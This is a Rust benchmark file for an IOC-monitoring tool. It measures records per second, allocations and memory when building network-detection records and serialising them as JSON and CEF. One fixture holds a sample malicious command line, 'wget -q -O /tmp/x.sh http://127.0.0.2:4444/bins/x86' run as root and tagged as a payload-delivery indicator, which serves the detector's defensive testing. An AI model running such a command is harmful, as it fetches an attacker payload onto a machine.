//! Records per second per core, from a decoded kernel event to serialised JSON and CEF,
//! and the memory it takes, against a baseline measured in the same run (serde_json of
//! a two-field struct). No criterion: one timed loop per case, best of five rounds, is
//! enough for a ratio and keeps the dependency tree small.
//!
//! `cargo bench -p ioc-userspace --bench records` prints a Markdown section; with
//! `IOCMON_BENCH_DOC=docs/BENCHMARKS.md` it also writes it there between the
//! `records-bench` markers.

use std::{
    alloc::{GlobalAlloc, Layout, System},
    hint::black_box,
    net::SocketAddr,
    sync::atomic::{AtomicU64, Ordering},
    time::Instant,
};

use iocmon::{
    event::{ConnectionEvent, Hook, MatchKind, Protocol},
    ioc::network_indicator,
    schema::{
        cef,
        device_network::{self, Detection, ProcessContext},
    },
};
use serde::Serialize;

/// Counts heap use, to report allocations and peak live bytes per case.
struct Counting;

static ALLOCS: AtomicU64 = AtomicU64::new(0);
static LIVE: AtomicU64 = AtomicU64::new(0);
static PEAK: AtomicU64 = AtomicU64::new(0);

unsafe impl GlobalAlloc for Counting {
    unsafe fn alloc(&self, layout: Layout) -> *mut u8 {
        ALLOCS.fetch_add(1, Ordering::Relaxed);
        let live = LIVE.fetch_add(layout.size() as u64, Ordering::Relaxed) + layout.size() as u64;
        PEAK.fetch_max(live, Ordering::Relaxed);
        // SAFETY: forwarding to the system allocator with the caller's layout.
        unsafe { System.alloc(layout) }
    }

    unsafe fn dealloc(&self, ptr: *mut u8, layout: Layout) {
        LIVE.fetch_sub(layout.size() as u64, Ordering::Relaxed);
        // SAFETY: ptr came from System.alloc with this layout.
        unsafe { System.dealloc(ptr, layout) }
    }
}

#[global_allocator]
static GLOBAL: Counting = Counting;

const ITERATIONS: u64 = 200_000;
const ROUNDS: usize = 5;

struct Measured {
    ns_per_op: f64,
    allocs_per_op: f64,
    peak_bytes: u64,
}

fn measure(mut op: impl FnMut()) -> Measured {
    for _ in 0..1000 {
        op();
    }
    let mut best = f64::MAX;
    let mut allocs = 0;
    let base_live = LIVE.load(Ordering::Relaxed);
    PEAK.store(base_live, Ordering::Relaxed);
    for _ in 0..ROUNDS {
        let a0 = ALLOCS.load(Ordering::Relaxed);
        let start = Instant::now();
        for _ in 0..ITERATIONS {
            op();
        }
        let ns = start.elapsed().as_nanos() as f64 / ITERATIONS as f64;
        best = best.min(ns);
        allocs = ALLOCS.load(Ordering::Relaxed) - a0;
    }
    Measured {
        ns_per_op: best,
        allocs_per_op: allocs as f64 / ITERATIONS as f64,
        peak_bytes: PEAK.load(Ordering::Relaxed).saturating_sub(base_live),
    }
}

fn status_kib(field: &str) -> u64 {
    std::fs::read_to_string("/proc/self/status")
        .ok()
        .and_then(|s| {
            s.lines()
                .find(|l| l.starts_with(field))
                .and_then(|l| l.split_whitespace().nth(1))
                .and_then(|n| n.parse().ok())
        })
        .unwrap_or(0)
}

#[derive(Serialize)]
struct Trivial<'a> {
    id: u64,
    name: &'a str,
}

fn main() {
    let event = ConnectionEvent {
        boot_ns: 1_234_567_890_123,
        hook: Hook::Connect4,
        protocol: Protocol::Tcp,
        pid: 4242,
        tgid: 4242,
        uid: 0,
        gid: 0,
        cgroup_id: 7,
        comm: "wget".into(),
        remote: "127.0.0.2:4444"
            .parse::<SocketAddr>()
            .unwrap_or_else(|_| unreachable!()),
        local: None,
        indicator: Some((MatchKind::Endpoint, 1)),
        blocked: false,
        watched: true,
        sock: 0,
    };
    let process = ProcessContext {
        file_name: "wget".into(),
        folder_path: Some("/usr/bin/wget".into()),
        command_line: Some("wget -q -O /tmp/x.sh http://127.0.0.2:4444/bins/x86".into()),
        command_line_truncated: false,
        account_name: Some("root".into()),
        effective_uid: Some(0),
        creation_unix_ns: Some(1_782_043_100_000_000_000),
        parent_id: Some(1),
        parent_file_name: Some("sh".into()),
        parent_creation_unix_ns: Some(1_782_043_000_000_000_000),
        ancestors: vec!["sh".into(), "init".into()],
        container_id: None,
    };
    let detection = Detection {
        class: "ioc",
        classes: vec!["ioc", "network-tool"],
        ..Detection::default()
    };
    let mut indicator =
        network_indicator("127.0.0.2:4444", "threatfox.json", 12).unwrap_or_else(|| unreachable!());
    indicator.meta.threat_type = Some("payload_delivery".into());
    indicator.meta.confidence = Some(100);
    let unix_ns = 1_782_043_200_123_456_789;
    let device_id = "22bb10ffe3104214b20fc7de339a2b053e915e5c";
    let rss_start = status_kib("VmRSS:");

    let mut line = Vec::with_capacity(4096);
    let baseline = measure(|| {
        line.clear();
        let _ = serde_json::to_writer(&mut line, black_box(&Trivial { id: 42, name: "x" }));
        black_box(&line);
    });
    let json = measure(|| {
        let mut row = device_network::build(
            black_box(&event),
            unix_ns,
            "iot-box",
            &process,
            &detection,
            Some(&indicator),
        );
        row.DeviceId = device_id;
        row.ReportId = 1;
        line.clear();
        let _ = serde_json::to_writer(&mut line, &row);
        black_box(&line);
    });
    let cef_only = measure(|| {
        let mut row = device_network::build(
            black_box(&event),
            unix_ns,
            "iot-box",
            &process,
            &detection,
            Some(&indicator),
        );
        row.DeviceId = device_id;
        black_box(cef::device_network(&row));
    });
    let both = measure(|| {
        let mut row = device_network::build(
            black_box(&event),
            unix_ns,
            "iot-box",
            &process,
            &detection,
            Some(&indicator),
        );
        row.DeviceId = device_id;
        line.clear();
        let _ = serde_json::to_writer(&mut line, &row);
        black_box(&line);
        black_box(cef::device_network(&row));
    });
    let rss_end = status_kib("VmRSS:");
    let hwm = status_kib("VmHWM:");

    let row = |name: &str, m: &Measured| {
        format!(
            "| {name} | {:.0} | {:.0} | {:.1}x | {:.1} | {} |\n",
            m.ns_per_op,
            1e9 / m.ns_per_op,
            m.ns_per_op / baseline.ns_per_op,
            m.allocs_per_op,
            m.peak_bytes
        )
    };
    let mut section = String::from(
        "<!-- records-bench:start -->\n## Records: decoded event to serialised line\n\n",
    );
    section.push_str(
        "`cargo bench -p ioc-userspace --bench records` (release profile, one thread; best of \
         5 rounds of 200,000). A record is `device_network::build` (enrichment already done) \
         plus serialisation; the baseline is `serde_json` of a two-field struct, measured in \
         the same run, so the ratio carries across machines.\n\n",
    );
    section.push_str("| case | ns/record | records/s per core | vs baseline | allocations/record | peak live heap (bytes) |\n|---|---|---|---|---|---|\n");
    section.push_str(&row("baseline: serde_json, 2 fields", &baseline));
    section.push_str(&row("DeviceNetworkEvents JSON", &json));
    section.push_str(&row("CEF line", &cef_only));
    section.push_str(&row("JSON + CEF (a JSON and a CEF sink)", &both));
    section.push_str(&format!(
        "\nMemory of the benchmark process: VmRSS {rss_start} KiB before, {rss_end} KiB after, \
         peak (VmHWM) {hwm} KiB. Per record the work is transient: the peak live heap above is \
         what one record holds while it is built and serialised, freed before the next. \
         Sink queues add at most `--queue-size` records per sink (8192 by default, ~1.6 KiB \
         each for a JSON DeviceNetworkEvents line).\n<!-- records-bench:end -->\n"
    ));
    print!("{section}");
    if let Some(path) = std::env::var_os("IOCMON_BENCH_DOC") {
        let current = std::fs::read_to_string(&path).unwrap_or_default();
        let (start, end) = (
            "<!-- records-bench:start -->",
            "<!-- records-bench:end -->\n",
        );
        let updated = match (current.find(start), current.find(end)) {
            (Some(s), Some(e)) if e > s => {
                format!("{}{}{}", &current[..s], section, &current[e + end.len()..])
            }
            _ if current.is_empty() => format!("# Benchmarks\n\n{section}"),
            _ => format!("{current}\n{section}"),
        };
        if let Err(err) = std::fs::write(&path, updated) {
            eprintln!("cannot write {}: {err}", path.to_string_lossy());
        }
    }
}
